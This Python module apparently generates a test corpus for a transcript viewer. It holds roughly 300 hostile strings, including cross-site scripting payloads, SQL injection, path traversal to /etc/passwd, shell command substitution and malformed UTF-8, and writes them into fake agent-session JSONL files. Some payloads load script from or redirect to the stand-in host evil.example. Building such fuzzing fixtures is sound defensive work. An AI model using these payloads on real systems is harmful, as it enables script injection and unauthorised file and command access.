"""Some 300 texts that try to leave the place where they are shown, as bytes; and a transcript that carries them."""
import itertools
import json

ACTIONS = ["pwned=1", "document.title='owned'", "fetch('/owned')", "location='//evil.example/'", "alert(1)"]

# {} is where the script stands.
MARKUP = [
    "<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{}</script>", "<script type=module>{}</script>",
    "</script><script>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<script\x0c>{}</script>", "<script/x>{}</script>",
    "<img src=x onerror=\"{}\">", "<img src=x onerror={}//", "<IMG \"\"\"><SCRIPT>{}</SCRIPT>\">", "<img/src/onerror={}>",
    "<img src=data:image/png;base64,AA onload=\"{}\">", "<svg onload=\"{}\">", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin=\"{}\" attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:{}\"><text y=9>go</text></a></svg>",
    "<svg><foreignObject><body onload=\"{}\"></foreignObject></svg>", "<svg><set attributeName=href to=\"javascript:{}\"></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=\"{}\"></style></mglyph></mtext></math>",
    "<math href=\"javascript:{}\">go</math>", "<body onload=\"{}\">", "<body onpageshow=\"{}\">", "<iframe srcdoc=\"<script>{}</script>\">",
    "<iframe src=\"javascript:{}\"></iframe>", "<object data=\"javascript:{}\"></object>", "<embed src=\"javascript:{}\">",
    "<video><source onerror=\"{}\"></video>", "<audio src=x onerror=\"{}\">", "<details open ontoggle=\"{}\">", "<input autofocus onfocus=\"{}\">",
    "<select autofocus onfocus=\"{}\">", "<textarea autofocus onfocus=\"{}\">", "<marquee onstart=\"{}\">", "<a href=\"javascript:{}\">click</a>",
    "<a href=\"&#106;avascript:{}\">click</a>", "<a href=\"java\tscript:{}\">click</a>", "<form action=\"javascript:{}\"><button>go</button></form>",
    "<button formaction=\"javascript:{}\">go</button>", "<isindex action=\"javascript:{}\">", "<base href=\"//evil.example/\"><script>{}</script>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<link rel=stylesheet href=\"javascript:{}\">", "<style>@import 'javascript:{}';</style>",
    "<div style=\"background:url(javascript:{})\">", "<p onmouseover=\"{}\" style=\"position:fixed;inset:0\">hover</p>", "<table background=\"javascript:{}\">",
    "\"><script>{}</script>", "'><script>{}</script>", "</bdi></p></main><script>{}</script>", "</textarea><script>{}</script>", "--><script>{}</script>",
    "]]><script>{}</script>", "</title><script>{}</script>", "<!--<img src=\"--><img src=x onerror=\"{}\">\">", "<noscript><p title=\"</noscript><img src=x onerror='{}'>\">",
    "<template><script>{}</script></template>", "<xss onclick=\"{}\" tabindex=1>x</xss>", "javascript:{}", "JaVaScRiPt:{}//", "data:text/html,<script>{}</script>",
    "vbscript:{}", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{% {} %}}", "[[{}]]", "`;{}//`", "');{};('", "\";{};\"",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E",
    "[click](javascript:{})", "![x](x \"onerror={}\")", "<javascript:{}>",
]
PLAIN = [
    "\u202Eevil\u202C", "\u2066a\u2067b\u2069", "\u061C\u200F\u200E", "\u202A\u202B\u202D" * 30, "abc\u200B\u200C\u200D\u2060def", "\uFEFFbom", "\u00AD" * 50,
    "z\u0351\u0352\u0353" * 60, "\u0645\u0631\u062D\u0628\u0627 <b>x</b>", "\U000E0041\U000E0042\U000E007F", "\U0001F468\u200D\U0001F469\u200D\U0001F467" * 20,
    "w" * 20_000, "<" * 5_000, "&" * 3_000, "<b>" * 2_000, "</div>" * 1_000, "\u4E00" * 5_000, "a " * 5_000, "-" * 4_000, "\n" * 500 + "x", "\t\t\t\r\n\r\r",
    "\x1b[2J\x1b]0;owned\x07", "\x01\x02\x03\x7f\x85", "\u2028\u2029", "\u0000", "a\u0000<script>pwned=1</script>\u0000", "\uFFFE\uFFFF", "NaN", "null", "undefined", "true", "__proto__",
    "constructor", "toString", "[object Object]", "-1e999", "'; DROP TABLE items; --", "\" OR \"\"=\"", "../../../../etc/passwd", "file:///etc/passwd", "//evil.example/x", "http://evil.example/<x>",
    "/?id=s000000000001&q=<x>", "?view=items#<img src=x onerror=pwned=1>", "$(id)", "`id`", "| cat /etc/passwd", "%s%s%n%x", "{0}{1}", "\\x3cscript\\x3e", "\\", "'", "\"", "<", ">", "&", "&amp;lt;",
]
BROKEN = [b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\x80\x80", b"\xfe<script>pwned=1</script>", b"<img src=x\xc3 onerror=pwned=1>", b"\xf0\x9f\x98", b"a\xe2\x80"]


def texts():
    """Bytes, each different; those of BROKEN are not UTF-8."""
    found = []
    for number, template in enumerate(MARKUP):
        for action in itertools.islice(itertools.cycle(ACTIONS), number % 5, number % 5 + 3):
            found.append(template.format(action).encode())
    found += [text.encode() for text in PLAIN] + BROKEN
    assert len(set(found)) == len(found)
    return found


def quoted(text):
    """A JSON string; malformed bytes go in as they are, the way a crashed agent leaves them."""
    return json.dumps(text.decode("utf-8", "surrogateescape"), ensure_ascii=False).encode("utf-8", "surrogateescape")


def write_transcripts(folder, per_session=10):
    """Sessions whose project, title, requests, replies, tools and results are hostile. Returns how many exchanges they hold."""
    hostile = texts()
    for start in range(0, len(hostile), per_session):
        lines = []
        for number, text in enumerate(hostile[start:start + per_session], start):
            def line(role, content, extra=b""):
                return (b'{"parentUuid":null,"isSidechain":false,"userType":"external","cwd":' + quoted(b"/home/dana/" + hostile[start])
                        + b',"sessionId":"hostile-%d","gitBranch":' % start + quoted(hostile[start]) + b',"type":"%s","uuid":"%s-%d","timestamp":"2026-10-05T08:%02d:%02d.000Z",' % (role, role, number, number // 60, number % 60)
                        + b'"message":{"role":"%s","content":' % role + content + extra + b"}}")
            sentence = b"We decided to use " + text[:200].replace(b"\n", b" ") + b" instead of plan %d because the queue stays short." % number
            said = b"[{\"type\":\"text\",\"text\":" + quoted(sentence + b"\n\n" + text) + b"},{\"type\":\"tool_use\",\"id\":\"t%d\",\"name\":" % number + quoted(text[:60]) + b",\"input\":{\"command\":" + quoted(text) + b"}}]"
            lines.append(line(b"user", quoted(b"zebrafish %d " % number + text)))
            lines.append(line(b"assistant", said, b',"model":' + quoted(text[:60]) + b',"id":"m%d","type":"message","stop_reason":null,"usage":{"input_tokens":1,"output_tokens":1}' % number))
        (folder / f"hostile-{start:03}.jsonl").write_bytes(b"\n".join(lines) + b"\n")
    return len(hostile)
